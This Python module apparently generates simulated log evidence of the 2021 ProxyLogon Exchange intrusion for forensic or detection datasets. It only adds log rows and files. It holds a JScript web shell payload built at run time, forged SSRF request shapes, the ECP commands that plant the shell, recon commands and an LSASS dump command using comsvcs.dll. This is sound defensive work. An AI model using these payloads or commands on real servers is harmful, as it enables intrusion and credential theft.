"""What the attack of early 2021 leaves on an Exchange server, step by step.

Nothing here attacks anything: these functions add rows to logs. The one hostile-looking
text, the address book dump with a script in its ExternalUrl, is put together at run time,
written only below the output folder, and run by nobody.

Source of the sequence, of the anchors and of the ECP commands: HelseCERT
(2021-march-exchange), log of 3 March 2021. Source of the event order: OTRF
Security-Datasets, recording of 14 March 2021. Source of the mail theft's shape: Volexity.
"""

import random

from background import OAB_GUID, compiled, compiled_path
from server import (ADMIN_SID, BUILD_VULNERABLE, CHROME, DOMAIN, EWS_CLIENT, EX_WIN, FQDN, HOST,
                    HOUR, INSIDE, MINUTE, NETBIOS, ORGANISATION, OWA_AUTH, OWA_AUTH_WIN, PEOPLE,
                    PUBLIC, PYTHON, SECOND, moment, packed_version)
from textlogs import Request, add_ecp, add_iis_only, add_request
import winlogs
from winlogs import SYSTEM32, W3WP, W3WP_OWA, W3WP_PID, Process

# The version that public tools put into their routing cookie: 15.1.1466.
COOKIE_VERSION = packed_version((15, 1, 1466, 0))

ECP_HINT = "X-BEResource-Cookie"
OWA_HINT = "X-AnonResource-Backend-Cookie"

EXECUTION = "execution"
CREDENTIALS = "credentials"
COLLECTION = "collection"


class Intruder:
    """Who sends the requests: an outside address, or a process on the server itself."""

    def __init__(self, address, process="", user=""):
        self.address = address
        self.process = process
        self.user = user

    def describe(self):
        """As the truth names an initiator."""
        told = {"address": self.address}
        if self.process:
            told.update(process=self.process, user=self.user)
        return told


class Shell:
    """The dumped address book object that serves as a web shell."""

    def __init__(self, name):
        self.name = name
        self.web_path = "/owa/auth/" + name
        self.path = OWA_AUTH + name
        self.windows_path = OWA_AUTH_WIN + name


def script_url():
    """The URL with a script in it, in the form the tools of that March used."""
    body = "function Page_Load(){/**/ev" + "al(Request[\"orange\"],\"unsafe\");}"
    return "http://f/<scr" + "ipt language=\"JScript\" runat=\"server\">" + body + "</scr" + "ipt>"


def anchor(path, host="a]@" + FQDN + ":444"):
    """The AnchorMailbox of a request whose cookie names `path` on `host`."""
    return "ServerInfo~" + host + path


def ssrf(evidence, rng, time, intruder, stem, path, **more):
    """A request with a forged routing cookie: front end, and back end where it arrived."""
    protocol = "Owa" if stem.startswith("/owa/") else "Ecp"
    values = {
        "method": "POST", "agent": PYTHON, "anchor": anchor(path), "duration": 180,
        "hint": OWA_HINT if protocol == "Owa" else ECP_HINT, "target_version": COOKIE_VERSION,
        "host": "localhost" if intruder.process else PUBLIC,
        "backend_stem": path.split("?")[0],
        "backend_query": path.partition("?")[2].rstrip("#") or "-",
        "backend_user": "%s\\%s$" % (NETBIOS, HOST), "request_bytes": 347,
        "response_bytes": 2114,
    }
    values.update(more)
    add_request(evidence, rng, time, Request(protocol, stem, intruder.address, **values))
    return "httpproxy-" + protocol.lower()


def _trace_all(evidence, time, axis, state, sources, basis="observed", **detail):
    for source in sources:
        evidence.trace(source, time, axis, state, basis, **detail)


# -- the full chain ----------------------------------------------------------------------


def chain(evidence, rng, start, intruder, shell, sysmon):
    """From the first SSRF request to the written shell. Returns the time after it."""
    stem = "/ecp/%s.js" % rng.choice("bcfhky")
    canary = "".join(rng.choice("ABCDEFabcdefghijk0123456789_-") for _ in range(22)) + "."
    ddi = "/ecp/DDI/DDIService.svc/%s?msExchEcpCanary=" + canary + "&schema=%s#"
    who = intruder.describe()
    steps = (
        (0, "/autodiscover/autodiscover.xml?#", 200, EWS_CLIENT, "attempted"),
        (1023, "/mapi/emsmdb/?#", 200, PYTHON, "reached"),
        (2213, "/ecp/proxyLogon.ecp?#", 241, PYTHON, "exploited"),
        (3771, ddi % ("GetObject", "OABVirtualDirectory"), 200, PYTHON, "exploited"),
        (7225, ddi % ("SetObject", "OABVirtualDirectory"), 200, PYTHON, "exploited"),
        (9542, ddi % ("SetObject", "ResetOABVirtualDirectory"), 200, PYTHON, "exploited"),
        (12471, ddi % ("SetObject", "OABVirtualDirectory"), 200, PYTHON, "exploited"),
    )
    for offset, path, status, agent, state in steps:
        source = ssrf(evidence, rng, start + offset, intruder, stem, path, status=status,
                      backend_status=status, agent=agent)
        evidence.trace(source, start + offset, "entry", state, initiator=who)
        evidence.trace("iis-frontend", start + offset, "entry",
                       "exploited" if status == 241 else "attempted", initiator=who)
        if "SetObject" in path:
            evidence.trace("iis-backend", start + offset, "entry", "exploited")
    written = start + 8690
    _panel_commands(evidence, rng, start, canary)
    _cmdlets(evidence, rng, start)
    _file_written(evidence, rng, written, shell, sysmon)
    _shell_file(evidence, written, start + 7150, shell)
    return start + 12471 + SECOND


def _panel_commands(evidence, rng, start, canary):
    url = "/ecp/DDI/DDIService.svc/%s?msExchEcpCanary=" + canary + "&schema=%s"
    get = url % ("GetObject", "OABVirtualDirectory")
    put = url % ("SetObject", "OABVirtualDirectory")
    reset = url % ("SetObject", "ResetOABVirtualDirectory")
    site = "%s\\OAB (Default Web Site)" % HOST
    path = EX_WIN + "FrontEnd\\HttpProxy\\OAB"
    gone = ("Microsoft.Exchange.Data.Directory.ADNoSuchObjectException:Active Directory operation "
            "failed on dc01.%s. The object 'CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=%s' "
            "does not exist.\\r\\n" % (DOMAIN, HOST))
    commands = (
        (3701, "Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null", get, ""),
        (3754, "Pipeline.1|Get-MailboxRegionalConfiguration", get, ""),
        (7143, "Set-OabVirtualDirectory.ExternalUrl='%s'.Identity='%s'"
         % (script_url(), OAB_GUID), put, ""),
        (7204, "Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity='%s'" % OAB_GUID, put, ""),
        (8695, "Get-OABVirtualDirectory.Identity='%s'" % OAB_GUID, reset, ""),
        (8830, "Get-ExchangeServer.Identity='%s'" % HOST, reset, ""),
        (9112, "Remove-OABVirtualDirectory.Force=$true.Identity='%s'" % site, reset, ""),
        (9533, "New-OABVirtualDirectory.WebSiteName='Default Web Site'.Server='%s'."
         "Role='ClientAccess'.InternalURL='https://%s/OAB'.Path='%s'" % (HOST, FQDN, path),
         reset, ""),
        (12395, "Set-OabVirtualDirectory.ExternalUrl=$null.Identity='%s'" % OAB_GUID, put, gone),
    )
    for offset, command, where, failure in commands:
        add_ecp(evidence, rng, start + offset, command, where, duration=60, failure=failure)
    evidence.trace("ecp", start + 7143, "entry", "exploited")
    evidence.trace("ecp", start + 7143, "backdoor", "written")


def _cmdlets(evidence, rng, start):
    caller = "%s/Users/Administrator" % DOMAIN
    pool = "w3wp#MSExchangeECPAppPool"
    for offset, name, parameters in (
            (7150, "Set-OabVirtualDirectory", "-ExternalUrl \"%s\" -Identity \"%s\""
             % (script_url(), OAB_GUID)),
            (9120, "Remove-OabVirtualDirectory",
             "-Force \"True\" -Identity \"%s\\OAB (Default Web Site)\"" % HOST),
            (9540, "New-OabVirtualDirectory",
             "-WebSiteName \"Default Web Site\" -Server \"%s\" -Role \"ClientAccess\" "
             "-InternalUrl \"https://%s/OAB\" -Path \"%sFrontEnd\\HttpProxy\\OAB\""
             % (HOST, FQDN, EX_WIN))):
        winlogs.cmdlet(evidence, start + offset, rng, name, parameters, caller, ADMIN_SID,
                       pool=pool, pid=7112)
    panel = "MSExchange Control Panel"
    winlogs.application(evidence, start + 7240, panel, 47, [ADMIN_SID, "176", "SetObject"])
    winlogs.application(evidence, start + 9590, panel, 48, [ADMIN_SID, "176", "SetObject"])
    for i in range(4):
        winlogs.application(evidence, start + 9140 + i * 20, "Microsoft-Windows-IIS-W3SVC-WP",
                            2303, ["MSExchangeOABAppPool"], level=3,
                            provider_guid="670080D9-742A-4187-8D16-41143D1290BD")
    front = "MSExchange Front End HTTP Proxy"
    winlogs.application(evidence, start + 9230, front, 1002, ["Oab"])
    winlogs.application(evidence, start + 9700, front, 1001, ["Oab"])
    evidence.trace("mgmt", start + 7150, "entry", "exploited")
    evidence.trace("mgmt", start + 7150, "backdoor", "written")


def _file_written(evidence, rng, time, shell, sysmon):
    """The kernel writes the file for the server's own account, over \\\\127.0.0.1\\C$."""
    port = rng.randrange(30000, 60000)
    below = shell.windows_path[len("C:\\"):]
    folder = below.rsplit("\\", 1)[0]
    winlogs.share_opened(evidence, time, "\\\\*\\IPC$", "", port)
    winlogs.share_opened(evidence, time + 1, "\\\\*\\C$", "\\??\\C:\\", port)
    winlogs.share_checked(evidence, time + 1, folder, "0x80", (4423,), port)
    winlogs.share_checked(evidence, time + 1, folder, "0x89", (4416, 4419, 4423), port)
    winlogs.share_checked(evidence, time + 2, below, "0x12019f",
                          (1538, 1541, 4416, 4417, 4418, 4419, 4420, 4423, 4424), port)
    winlogs.share_checked(evidence, time + 2, below, "0x2", (4417,), port)
    sources = ["security"]
    if sysmon:
        winlogs.sysmon_file_created(evidence, time + 1, "System", 4, shell.windows_path)
        sources.append("sysmon")
    _trace_all(evidence, time, "entry", "exploited", sources)
    _trace_all(evidence, time, "backdoor", "written", sources)


def _shell_file(evidence, written, changed, shell):
    evidence.file(shell.path, dump(changed), written)
    evidence.trace("files", written, "backdoor", "present")
    evidence.trace("files", written, "entry", "exploited", "inferred")


def _us_date(time):
    """3/3/2021 6:59:17 AM, as a server with an American locale writes it."""
    when = moment(time)
    return "%d/%d/%d %d:%s" % (when.month, when.day, when.year, (when.hour + 11) % 12 + 1,
                               when.strftime("%M:%S %p"))


def dump(changed):
    """The text Exchange writes for an address book directory when it is reset."""
    unit = "CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups"
    created = changed - 151 * 24 * HOUR
    entries = (
        ("Name", "OAB (Default Web Site)"), ("PollInterval", "480"),
        ("OfflineAddressBooks", "\\Default Offline Address Book"), ("RequireSSL", "True"),
        ("BasicAuthentication", "False"), ("WindowsAuthentication", "True"),
        ("OAuthAuthentication", "True"), ("MetabasePath", "IIS://%s/W3SVC/1/ROOT/OAB" % FQDN),
        ("Path", EX_WIN + "FrontEnd\\HttpProxy\\OAB"), ("ExtendedProtectionTokenChecking", "None"),
        ("ExtendedProtectionFlags", ""), ("ExtendedProtectionSPNList", ""),
        ("AdminDisplayVersion", "Version 15.1 (Build %d.%d)" % BUILD_VULNERABLE[2:]),
        ("Server", HOST), ("InternalUrl", "https://%s/OAB" % FQDN),
        ("InternalAuthenticationMethods", "OAuth"), ("", "WindowsIntegrated"),
        ("ExternalUrl", script_url()), ("ExternalAuthenticationMethods", "OAuth"),
        ("", "WindowsIntegrated"), ("AdminDisplayName", ""),
        ("ExchangeVersion", "0.10 (14.0.100.0)"),
        ("DistinguishedName", "CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=%s,CN=Servers,%s,"
         "CN=%s,CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=nordhaven,DC=example"
         % (HOST, unit, ORGANISATION)),
        ("Identity", HOST + "\\OAB (Default Web Site)"), ("Guid", OAB_GUID),
        ("ObjectCategory", DOMAIN + "/Configuration/Schema/ms-Exch-OAB-Virtual-Directory"),
        ("ObjectClass", "top"), ("", "msExchVirtualDirectory"), ("", "msExchOABVirtualDirectory"),
        ("WhenChanged", _us_date(changed)),
        ("WhenCreated", _us_date(created)),
        ("WhenChangedUTC", _us_date(changed)),
        ("WhenCreatedUTC", _us_date(created)), ("OrganizationId", ""),
        ("Id", HOST + "\\OAB (Default Web Site)"), ("OriginatingServer", "dc01." + DOMAIN),
        ("IsValid", "True"),
    )
    lines = ["%-32s%s %s" % (name, ":" if name else " ", value) for name, value in entries]
    return "\r\n".join([""] + lines + ["", "", ""])


# -- use of the shell --------------------------------------------------------------------


def first_visit(evidence, rng, time, intruder, shell, sysmon):
    """The page is asked for the first time: ASP.NET compiles it, and that stays on disk."""
    _shell_request(evidence, rng, time, intruder, shell, "GET")
    number = rng.getrandbits(32)
    letters = "abcdefghijklmnopqrstuvwxyz012345"
    assembly = "App_Web_" + "".join(rng.choice(letters) for _ in range(8))
    path = compiled_path(shell.name.lower(), number)
    evidence.file(path, compiled(shell.name.lower(), assembly), time - 30)
    evidence.trace("files", time - 30, "backdoor", "written")
    process = Process("C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\cvtres.exe",
                      "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\cvtres.exe /NOLOGO "
                      "/READONLY /MACHINE:IX86 \"/OUT:C:\\Windows\\TEMP\\RES37C9.tmp\" "
                      "\"C:\\Windows\\TEMP\\RES37C8.tmp\"", W3WP, W3WP_PID, 15300,
                      parent_command=W3WP_OWA)
    winlogs.process_created(evidence, time - 80, process)
    if sysmon:
        worker = "c:\\windows\\system32\\inetsrv\\w3wp.exe"
        folder = "C:\\" + path.rsplit("/", 1)[0].replace("/", "\\") + "\\"
        winlogs.sysmon_process(evidence, time - 80, process)
        for i, name in enumerate((assembly + ".0.js", assembly + ".1.js", assembly + ".dll",
                                  path.rsplit("/", 1)[1])):
            winlogs.sysmon_file_created(evidence, time - 70 + i * 10, worker, W3WP_PID,
                                        folder + name)


def _shell_request(evidence, rng, time, intruder, shell, method):
    add_request(evidence, rng, time, Request(
        "Owa", shell.web_path, intruder.address, method=method, agent=PYTHON, proxied=False,
        backend_status=None, host="localhost" if intruder.process else PUBLIC,
        request_bytes=214 if method == "POST" else 0, response_bytes=2402, duration=120))
    for source in ("iis-frontend", "httpproxy-owa"):
        evidence.trace(source, time, "backdoor", "written", used=time)
        evidence.trace(source, time, "entry", "exploited", "inferred",
                       initiator=intruder.describe())


def run(evidence, rng, time, intruder, shell, command, sysmon, kind=EXECUTION, inner=None):
    """A command through the shell: the request, cmd.exe below w3wp, and what cmd.exe starts."""
    _shell_request(evidence, rng, time, intruder, shell, "POST")
    shell_pid = 4 * rng.randrange(500, 6000)
    processes = [Process(SYSTEM32 + "cmd.exe", command, W3WP, W3WP_PID, shell_pid,
                         parent_command=W3WP_OWA)]
    for image, text in inner or ():
        processes.append(Process(SYSTEM32 + image, text, SYSTEM32 + "cmd.exe", shell_pid,
                                 4 * rng.randrange(500, 6000), parent_command=command))
    sources = ["security"] + (["sysmon"] if sysmon else [])
    for i, process in enumerate(processes):
        winlogs.process_created(evidence, time - 60 + i * 20, process)
        if sysmon:
            winlogs.sysmon_process(evidence, time - 60 + i * 20, process)
    for name in sorted({EXECUTION, kind}):
        _trace_all(evidence, time, "action", "seen", sources, kind=name, command=command)
    _trace_all(evidence, time, "entry", "exploited", sources, "inferred")


def look_around(evidence, rng, time, intruder, shell, sysmon):
    """A first look around, minutes after the entry."""
    in_folder = "cmd /c cd /d \"%s\"&%%s&echo [S]&cd&echo [E]" % OWA_AUTH_WIN.rstrip("\\")
    run(evidence, rng, time, intruder, shell, "cmd /c whoami", sysmon,
        inner=[("whoami.exe", "whoami")])
    run(evidence, rng, time + 41 * SECOND, intruder, shell, in_folder % "ipconfig /all", sysmon,
        inner=[("ipconfig.exe", "ipconfig  /all")])
    run(evidence, rng, time + 3 * MINUTE, intruder, shell,
        in_folder % "net group \"Domain Admins\" /domain", sysmon,
        inner=[("net.exe", "net  group \"Domain Admins\" /domain")])


def dump_credentials(evidence, rng, time, intruder, shell, sysmon):
    """LSASS memory to a file, with a library that Windows brings along."""
    text = ("rundll32.exe C:\\windows\\system32\\comsvcs.dll, MiniDump 812 "
            "C:\\windows\\temp\\d.dmp full")
    run(evidence, rng, time, intruder, shell, "cmd /c " + text, sysmon, kind=CREDENTIALS,
        inner=[("rundll32.exe", text)])


def remove_shell(evidence, rng, time, intruder, shell, sysmon):
    """The intruder deletes the shell through itself; what was compiled stays."""
    command = "cmd /c del \"%s\"" % shell.windows_path
    run(evidence, rng, time, intruder, shell, command, sysmon)
    evidence.files.pop(shell.path, None)
    evidence.traces = [t for t in evidence.traces if t.source != "files" or t.state != "present"]
    evidence.traces = [t for t in evidence.traces if t.source != "files" or t.axis != "entry"]
    sources = ["security", "files"]
    if sysmon:
        winlogs.sysmon_file_deleted(evidence, time, SYSTEM32 + "cmd.exe", 23392,
                                    shell.windows_path, shell.name)
        sources.append("sysmon")
    _trace_all(evidence, time, "backdoor", "removed", sources)
    evidence.trace("files", time, "entry", "exploited", "inferred")
    late = time + 50 * HOUR
    add_request(evidence, rng, late, Request(
        "Owa", shell.web_path, "198.51.100.91", agent=CHROME, status=302, proxied=False,
        backend_status=None, duration=6))


def local_process(evidence, time, intruder, sysmon):
    """The tool that a logged-on user starts on the server itself."""
    process = Process(intruder.process, "python  public-poc.py localhost a.berg@" + DOMAIN,
                      SYSTEM32 + "cmd.exe", 5120, 11604, user=intruder.user)
    winlogs.process_created(evidence, time, process)
    evidence.trace("security", time, "entry", "attempted", initiator=intruder.describe())
    if sysmon:
        winlogs.sysmon_process(evidence, time, process)
        for i in range(7):
            winlogs.sysmon_connection(evidence, time + 1500 + i * 1700, intruder.process,
                                      NETBIOS + "\\" + intruder.user, "0:0:0:0:0:0:0:1")
        evidence.trace("sysmon", time, "entry", "attempted", initiator=intruder.describe())


# -- smaller acts ------------------------------------------------------------------------


def probe(evidence, rng, time, intruder, refused=False):
    """A scanner's test for the flaw: a cookie that names localhost.

    A vulnerable server answers 500 for its back end; a patched one ignores the cookie.
    """
    stem = "/owa/auth/x.js"
    agent = "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"
    if refused:
        add_request(evidence, rng, time, Request("Owa", stem, intruder.address, agent=agent,
                                                 status=404, proxied=False, backend_status=None,
                                                 host=INSIDE))
        return
    ssrf(evidence, rng, time, intruder, stem, "", method="GET", agent=agent, status=500,
         backend_status=500, anchor=anchor("/ecp/default.flt?", "localhost"), target="localhost",
         target_version=3, down_level=True, host=INSIDE, backend_stem="/ecp/default.flt",
         error="ProtocolError", errors="WebExceptionStatus=ProtocolError;ResponseStatusCode=500;")
    for source in ("httpproxy-owa", "iis-frontend"):
        evidence.trace(source, time, "entry", "probed", initiator=intruder.describe())


def refused_attempts(evidence, rng, time, intruder):
    """SSRF requests that the server answers with an error: the target never spoke."""
    cases = (("/autodiscover/autodiscover.xml?#", "a]@exchange." + DOMAIN + ":444", 503,
              "NameResolutionFailure"),
             ("/autodiscover/autodiscover.xml?#", "a]@exch01." + DOMAIN + ":444", 503,
              "NameResolutionFailure"),
             ("/autodiscover/autodiscover.xml?#", "a]@" + FQDN + ":444", 400, "BadRequest"),
             ("/mapi/emsmdb/?#", "a]@" + FQDN + ":444", 404, "NotFound"))
    for i, (path, host, status, error) in enumerate(cases):
        when = time + i * 1310
        ssrf(evidence, rng, when, intruder, "/ecp/y.js", path, status=status,
             backend_status=None, anchor=anchor(path, host), error=error, response_bytes=0,
             agent=EWS_CLIENT if i == 0 else PYTHON, errors="WebExceptionStatus=%s;" % error)
        for source in ("httpproxy-ecp", "iis-frontend"):
            evidence.trace(source, when, "entry", "attempted", initiator=intruder.describe())


def mailbox_lookups(evidence, rng, time, intruder, found=False):
    """SSRF to Autodiscover answered 200, again and again, for guessed mailbox addresses.

    With `found`, the last guess was right, and the MAPI page told its owner's SID.
    """
    paths = ["/autodiscover/autodiscover.xml?#"] * 6 + ["/mapi/emsmdb/?#"] * found
    for i, path in enumerate(paths):
        when = time + i * 2170
        state = "reached" if "mapi" in path else "attempted"
        source = ssrf(evidence, rng, when, intruder, "/ecp/y.js", path,
                      agent=PYTHON if "mapi" in path else EWS_CLIENT, response_bytes=421 + 9 * i)
        evidence.trace(source, when, "entry", state, initiator=intruder.describe())
        evidence.trace("iis-frontend", when, "entry", "attempted",
                       initiator=intruder.describe())


def mail_theft(evidence, rng, time, intruder, count=48):
    """Mail read over SSRF to EWS with the server's own rights. Returns (bytes, last time)."""
    names = ("logon.css", "owafont_ja.css", "lgnbotl.gif", "owafont_ko.css",
             "SegoeUI-SemiBold.eot", "SegoeUI-SemiLight.ttf")
    total, when = 0, time
    for i in range(count):
        when = time + i * 37 * SECOND + rng.randrange(20 * SECOND)
        size = rng.randrange(900_000, 6_500_000) if i > 3 else rng.randrange(9_000, 60_000)
        total += size
        stem = "/owa/auth/Current/themes/resources/" + rng.choice(names)
        source = ssrf(evidence, rng, when, intruder, stem, "/EWS/Exchange.asmx?a=",
                      backend_query="a=", response_bytes=size, request_bytes=1210,
                      duration=rng.randrange(400, 9000), agent=EWS_CLIENT)
        evidence.trace(source, when, "entry", "exploited", initiator=intruder.describe())
        evidence.trace("iis-backend", when, "entry", "reached")
        evidence.trace("iis-frontend", when, "entry", "attempted",
                       initiator=intruder.describe())
        evidence.trace(source, when, "action", "seen", kind=COLLECTION, command="")
        evidence.trace(source, when, "loss", "bounds", bytes=size)
    return total, when


def guess_shells(evidence, rng, time, intruder):
    """One address asks for many names that shells had: none of them is here."""
    names = ("web help document errorEE errorEW errorFF healthcheck aspnet_www xx shell one "
             "OutlookZH OutlookEN bob errorPage errorPages fatal-erro log logg logout shel shel2 "
             "shel90 a default Server aspnet_pages default1 iispage s session services supp0rt "
             "discover HttpProxy errorcheck t client load err0r RedirSuiteServerProxy").split()
    random.Random("order").shuffle(names)
    for i, name in enumerate(names):
        when = time + i * 800 + rng.randrange(500)
        if i % 3:
            add_request(evidence, rng, when, Request(
                "Owa", "/owa/auth/%s.aspx" % name, intruder.address, agent=CHROME, status=302,
                proxied=False, backend_status=None, duration=5))
        else:
            add_iis_only(evidence, when, Request(
                "Owa", "/aspnet_client/%s.aspx" % name, intruder.address, agent=CHROME,
                status=404, duration=3))


LOCAL_USER = PEOPLE[9].name
LOCAL_PYTHON = "C:\\Users\\%s\\AppData\\Local\\Programs\\Python\\Python39\\python.exe" % LOCAL_USER
